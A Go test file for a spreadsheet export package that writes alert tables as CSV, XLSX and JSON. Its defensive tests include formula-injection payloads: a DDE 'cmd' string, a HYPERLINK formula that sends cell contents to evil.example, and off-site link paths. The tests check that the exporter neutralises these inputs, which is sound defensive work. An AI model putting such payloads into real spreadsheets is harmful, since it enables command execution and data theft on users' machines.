package sheet_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"io"
	"iter"
	"math"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"yagura/internal/platform/fault"
	"yagura/internal/platform/sheet"
)

var update = flag.Bool("update", false, "write the golden files anew")

var tokyo = time.FixedZone("JST", 9*3600)

func register() sheet.Table {
	return sheet.Table{Name: "アラート", Zone: tokyo, Base: "https://yagura.example.co.jp", Columns: []sheet.Column{
		{Name: "title", Title: "件名", Width: 40}, {Name: "opened_at", Title: "検知日時", Width: 20}, {Name: "due", Title: "期限"},
		{Name: "count", Title: "件数"}, {Name: "score", Title: "スコア"}, {Name: "open", Title: "未対応"}, {Name: "id", Title: "番号"},
	}}
}

func given(list ...[]any) iter.Seq2[[]any, error] {
	return func(yield func([]any, error) bool) {
		for _, row := range list {
			if !yield(row, nil) {
				return
			}
		}
	}
}

func sample() iter.Seq2[[]any, error] {
	when := time.Date(2026, 11, 25, 0, 30, 0, 0, time.UTC)
	day := sheet.Day(time.Date(2026, 12, 1, 23, 59, 0, 0, tokyo))
	return given(
		[]any{"不審なログイン", when, day, 3, 0.5, true, sheet.Link{Text: "AL-1", Path: "/alerts/1"}},
		[]any{"=cmd|' /C calc'!A0", when, day, -3, -0.25, false, sheet.Link{Text: `AL-"2"`, Path: "//evil.example"}},
		[]any{"two\nlines, \"quoted\"", time.Time{}, sheet.Day{}, int64(math.MaxInt64), math.NaN(), nil, nil},
		[]any{"'=kept <&> _x000D_", nil, nil, 0, 1e21, true, "001"},
	)
}

func written(t *testing.T, f sheet.Format, table sheet.Table, rows iter.Seq2[[]any, error]) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := sheet.Write(&out, f, table, rows); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func TestTextFormatsAreWrittenAsTheyWere(t *testing.T) {
	t.Parallel()
	for _, f := range []sheet.Format{sheet.CSV, sheet.JSON} {
		got, golden := written(t, f, register(), sample()), filepath.Join("testdata", "export."+string(f))
		if *update {
			if err := os.WriteFile(golden, got, 0o644); err != nil {
				t.Fatal(err)
			}
		}
		want, err := os.ReadFile(golden)
		if err != nil || !bytes.Equal(got, want) {
			t.Errorf("%s, %v: %s", f, err, cmp.Diff(string(want), string(got)))
		}
	}
	var list []map[string]any
	if err := json.Unmarshal(written(t, sheet.JSON, register(), sample()), &list); err != nil || len(list) != 4 {
		t.Errorf("the JSON reads %v, %v", list, err)
	}
}

// asRead is what an export reads back as, whichever way it went.
const asRead = "1: 件名 | 検知日時 | 期限 | 件数 | スコア | 未対応 | 番号\n" +
	"2: 不審なログイン | 2026-11-25 09:30:00 | 2026-12-01 | 3 | 0.5 | true | AL-1\n" +
	"3: =cmd|' /C calc'!A0 | 2026-11-25 09:30:00 | 2026-12-01 | -3 | -0.25 | false | AL-\"2\"\n" +
	"4: two\nlines, \"quoted\" |  |  | 9223372036854775807\n" +
	"5: '=kept <&> _x000D_ |  |  | 0 | 1000000000000000000000 | true | 001\n"

func TestWhatIsExportedReadsBackAsItWas(t *testing.T) {
	t.Parallel()
	got, err := rows(written(t, sheet.XLSX, register(), sample()), sheet.Limits{})
	if err != nil || got != asRead {
		t.Errorf("XLSX, %v: %s", err, cmp.Diff(asRead, got))
	}
	got, err = rows(written(t, sheet.CSV, register(), sample()), sheet.Limits{})
	want := strings.Replace(asRead, "\n5:", "\n6:", 1) // a text has two lines
	if err != nil || got != want {
		t.Errorf("CSV, %v: %s", err, cmp.Diff(want, got))
	}
}

// TestTheWorkbook looks at an export with another reader.
func TestTheWorkbook(t *testing.T) {
	t.Parallel()
	f, err := excelize.OpenReader(bytes.NewReader(written(t, sheet.XLSX, register(), sample())))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); len(got) != 1 || got[0] != "アラート" {
		t.Errorf("sheets: %v", got)
	}
	if panes, err := f.GetPanes("アラート"); err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("panes: %+v, %v", panes, err)
	}
	if names := f.GetDefinedName(); len(names) != 1 || !strings.HasSuffix(names[0].RefersTo, "$A$1:$G$5") {
		t.Errorf("filter: %+v", names)
	}
	if w, err := f.GetColWidth("アラート", "A"); err != nil || w != 40 {
		t.Errorf("width: %v, %v", w, err)
	}
	if font, err := f.GetDefaultFont(); err != nil || font != "游ゴシック" {
		t.Errorf("font: %v, %v", font, err)
	}
	for cell, want := range map[string]string{"G2": `HYPERLINK("https://yagura.example.co.jp/alerts/1","AL-1")`, "G3": "", "A3": ""} {
		if got, err := f.GetCellFormula("アラート", cell); err != nil || got != want {
			t.Errorf("%s is the formula %q, %v", cell, got, err)
		}
	}
	for cell, want := range map[string]excelize.CellType{"A3": excelize.CellTypeInlineString, "B2": excelize.CellTypeUnset, "D2": excelize.CellTypeUnset, "D4": excelize.CellTypeInlineString, "F2": excelize.CellTypeBool} {
		if got, err := f.GetCellType("アラート", cell); err != nil || got != want {
			t.Errorf("%s has the type %v, %v", cell, got, err)
		}
	}
	for cell, want := range map[string]string{"B2": "2026-11-25 09:30:00", "C2": "2026-12-01"} {
		if got, err := f.GetCellValue("アラート", cell); err != nil || got != want {
			t.Errorf("%s looks like %q, %v", cell, got, err)
		}
	}
}

// TestLibreOfficeOpensTheWorkbook has it make a CSV of an export.
func TestLibreOfficeOpensTheWorkbook(t *testing.T) {
	t.Parallel()
	office, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("no LibreOffice: install Debian's package libreoffice-calc-nogui to open workbooks with it")
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "export.xlsx"), written(t, sheet.XLSX, register(), sample()), 0o600); err != nil {
		t.Fatal(err)
	}
	convert := exec.CommandContext(t.Context(), office, "-env:UserInstallation=file://"+dir+"/profile", "--headless",
		"--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false", "--outdir", dir, filepath.Join(dir, "export.xlsx"))
	if out, err := convert.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	data, err := os.ReadFile(filepath.Join(dir, "export.csv"))
	if err != nil {
		t.Fatal(err)
	}
	got, err := rows(data, sheet.Limits{})
	want := strings.NewReplacer("true", "TRUE", "false", "FALSE", "1000000000000000000000", "1E+021", "\n5: '=kept", "\n6: =kept").Replace(asRead)
	if err != nil || got != want {
		t.Errorf("%v: %s", err, cmp.Diff(want, got))
	}
}

func TestNoTextBecomesAFormula(t *testing.T) {
	t.Parallel()
	table := sheet.Table{Columns: []sheet.Column{{Name: "a", Title: "=title"}}}
	for _, text := range []string{
		`=HYPERLINK("https://evil.example?"&A1,"x")`, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1", "''=1",
	} {
		csv := string(written(t, sheet.CSV, table, given([]any{text})))
		cell := strings.TrimPrefix(strings.TrimPrefix(csv, "\ufeff'=title\r\n"), `"`)
		if !strings.HasPrefix(cell, "'") {
			t.Errorf("%q is written as %q", text, csv)
		}
		f, err := excelize.OpenReader(bytes.NewReader(written(t, sheet.XLSX, table, given([]any{text}, []any{sheet.Link{Text: text, Path: "/x"}}))))
		if err != nil {
			t.Fatal(err)
		}
		for _, cell := range []string{"A1", "A2", "A3"} {
			if formula, err := f.GetCellFormula("Sheet", cell); err != nil || formula != "" {
				t.Errorf("%q is the formula %q, %v", text, formula, err)
			}
		}
		f.Close()
	}
	for _, text := range []string{"plain", "'quoted'", "1-2", " =1"} {
		if csv := string(written(t, sheet.CSV, table, given([]any{text}))); strings.Contains(csv, "\n'"+text) && text[0] != '\'' {
			t.Errorf("%q is written as %q", text, csv)
		}
	}
}

func TestLinksLeadToOurOwnPagesOnly(t *testing.T) {
	t.Parallel()
	table := sheet.Table{Base: "https://yagura.example.co.jp", Columns: []sheet.Column{{Title: "a"}}}
	for _, row := range []struct{ text, path, want string }{
		{"a", "/x?q=1", `HYPERLINK("https://yagura.example.co.jp/x?q=1","a")`},
		{`"),cmd("`, `/"&A1&"`, `HYPERLINK("https://yagura.example.co.jp/""&A1&""","""),cmd(""")`},
		{"a", "https://evil.example", ""},
		{"a", "//evil.example", ""},
		{"a", `/\evil.example`, ""},
		{"a", ".evil.example", ""},
		{"a", "", ""},
		{strings.Repeat("a", 300), "/x", ""},
	} {
		f, err := excelize.OpenReader(bytes.NewReader(written(t, sheet.XLSX, table, given([]any{sheet.Link{Text: row.text, Path: row.path}}))))
		if err != nil {
			t.Fatal(err)
		}
		formula, err := f.GetCellFormula("Sheet", "A2")
		if value, failed := f.GetCellValue("Sheet", "A2"); err != nil || failed != nil || formula != row.want || value != row.text {
			t.Errorf("%+v is the formula %q with the value %q, %v, %v", row, formula, value, err, failed)
		}
		f.Close()
	}
}

func TestALongTextSaysThatItWasCut(t *testing.T) {
	t.Parallel()
	table := sheet.Table{Columns: []sheet.Column{{Title: "a"}}}
	got, err := rows(written(t, sheet.XLSX, table, given([]any{strings.Repeat("長", 40_000)}, []any{strings.Repeat("長", 32_767)})), sheet.Limits{Cell: 1 << 20})
	want := "1: a\n2: " + strings.Repeat("長", 32_765) + " …\n3: " + strings.Repeat("長", 32_767) + "\n"
	if err != nil || got != want {
		t.Errorf("%v, %d bytes for %d", err, len(got), len(want))
	}
}

func TestRowsThatAreTooManyGoOnInTheNextSheet(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	table := sheet.Table{Name: "a/b: " + strings.Repeat("長", 40), Columns: []sheet.Column{{Title: "n"}}}
	if err := sheet.WriteSheets(&out, table, 3, given([]any{1}, []any{2}, []any{3}, []any{4}, []any{5})); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var got []string
	for _, name := range f.GetSheetList() {
		list, err := f.GetRows(name)
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range list {
			got = append(got, row...)
		}
	}
	if want := "n 1 2 n 3 4 n 5"; strings.Join(got, " ") != want || len(f.GetSheetList()) != 3 {
		t.Errorf("%v in %v", got, f.GetSheetList())
	}
}

func TestAnErrorAmongTheRowsEndsIt(t *testing.T) {
	t.Parallel()
	broken := errors.New("the database is gone")
	for _, f := range []sheet.Format{sheet.CSV, sheet.XLSX, sheet.JSON} {
		table := sheet.Table{Columns: []sheet.Column{{Title: "a"}}}
		err := sheet.Write(io.Discard, f, table, func(yield func([]any, error) bool) { _ = yield([]any{1}, nil) && yield(nil, broken) })
		if !errors.Is(err, broken) {
			t.Errorf("%s: %v", f, err)
		}
		if err := sheet.Write(io.Discard, f, table, given([]any{1, 2})); !fault.Is(err, fault.Internal) {
			t.Errorf("%s, a row that is too wide: %v", f, err)
		}
		if err := sheet.Write(io.Discard, f, table, given([]any{struct{}{}})); !fault.Is(err, fault.Internal) {
			t.Errorf("%s, a cell of no kind: %v", f, err)
		}
	}
	if err := sheet.Write(io.Discard, "pdf", sheet.Table{}, given()); !fault.Is(err, fault.Invalid) {
		t.Errorf("a format that is none: %v", err)
	}
}

// many gives rows as an export of alerts has them.
func many(n int) iter.Seq2[[]any, error] {
	when := time.Date(2026, 11, 25, 0, 30, 0, 0, time.UTC)
	return func(yield func([]any, error) bool) {
		row := make([]any, 7)
		for i := range n {
			row[0], row[1], row[2], row[3], row[4], row[5] = "不審なログインがありました", when.Add(time.Duration(i)*time.Second), nil, i, float64(i)/3, i%2 == 0
			row[6] = sheet.Link{Text: "AL-1", Path: "/alerts/1"}
			if !yield(row, nil) {
				return
			}
		}
	}
}

// TestMemoryDoesNotGrowWithTheRows writes 60,000 rows of each format, or a million with YAGURA_LONG=1, and looks at the memory on the way.
func TestMemoryDoesNotGrowWithTheRows(t *testing.T) {
	n := 60_000
	if os.Getenv("YAGURA_LONG") != "" {
		n = 1_000_000
	}
	for _, f := range []sheet.Format{sheet.CSV, sheet.XLSX, sheet.JSON} {
		var before, now runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		peak, count := uint64(0), 0
		size := &counter{}
		err := sheet.Write(size, f, register(), func(yield func([]any, error) bool) {
			for row := range many(n) {
				if count++; count%10_000 == 0 {
					runtime.GC()
					runtime.ReadMemStats(&now)
					peak = max(peak, now.HeapAlloc-min(now.HeapAlloc, before.HeapAlloc))
				}
				if !yield(row, nil) {
					return
				}
			}
		})
		if err != nil || count != n {
			t.Errorf("%s: %d rows, %v", f, count, err)
		}
		t.Logf("%s: %d rows, %d bytes, heap %d KiB at most", f, n, size.n, peak>>10)
		if peak > 48<<20 {
			t.Errorf("%s: the heap grew by %d bytes", f, peak)
		}
	}
}

type counter struct{ n int64 }

func (c *counter) Write(p []byte) (int, error) { c.n += int64(len(p)); return len(p), nil }

func FuzzRoundTrip(f *testing.F) {
	for _, text := range []string{"a", "=1", "'=1", "a\r\nb", "\"", "ａ", " x ", "_x000D_", "\ufeff", "\xff"} {
		f.Add(text, "b")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		table := sheet.Table{Columns: []sheet.Column{{Name: "a", Title: "a"}, {Name: "b", Title: "b"}, {Name: "c", Title: "c"}}}
		for _, format := range []sheet.Format{sheet.CSV, sheet.XLSX} {
			r, err := sheet.Open(bytes.NewReader(written(t, format, table, given([]any{a, b, "end"}))), sheet.Limits{})
			if err != nil {
				t.Fatalf("%s: %v", format, err)
			}
			count := 0
			for row, err := range r.Rows() {
				if err != nil {
					t.Fatalf("%s, %q and %q: %v", format, a, b, err)
				}
				if count++; count == 2 && (len(row.Cells) != 3 || same(row.Cells[0]) != same(a) || same(row.Cells[1]) != same(b)) {
					t.Fatalf("%s: %q and %q read as %q", format, a, b, row.Cells)
				}
			}
			if count != 2 {
				t.Fatalf("%s: %q and %q are %d rows", format, a, b, count)
			}
		}
	})
}

// same leaves out what both formats may change: how lines end, and what XML cannot hold.
func same(text string) string {
	text = strings.ReplaceAll(string([]rune(text)), "\r\n", "\n")
	return strings.Map(func(c rune) rune {
		switch {
		case c == '\r':
			return '\n'
		case c < ' ' && c != '\t' && c != '\n', c == '\ufffe', c == '\uffff', c == '\ufffd':
			return '?'
		}
		return c
	}, text)
}

// BenchmarkWrite writes 20,000 rows, beside the bare encoders.
func BenchmarkWrite(b *testing.B) {
	const n = 20_000
	for _, f := range []sheet.Format{sheet.CSV, sheet.XLSX, sheet.JSON} {
		b.Run(string(f), func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if err := sheet.Write(io.Discard, f, register(), many(n)); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(n)*float64(b.N)/b.Elapsed().Seconds(), "rows/s")
		})
	}
	b.Run("bare encoding-csv", func(b *testing.B) { bare(b, n, bareCSV) })
	b.Run("bare excelize", func(b *testing.B) { bare(b, n, bareXLSX) })
	b.Run("bare encoding-json", func(b *testing.B) { bare(b, n, bareJSON) })
}
